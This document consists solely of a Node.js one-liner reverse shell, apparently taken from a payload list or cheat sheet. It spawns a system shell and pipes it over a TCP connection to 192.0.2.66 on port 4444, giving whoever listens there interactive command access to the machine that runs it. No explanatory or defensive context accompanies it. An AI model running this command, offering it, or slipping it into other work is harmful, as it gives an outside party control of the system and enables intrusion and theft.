node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh",[]);var c=new net.Socket();c.connect(4444,"192.0.2.66",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})();'
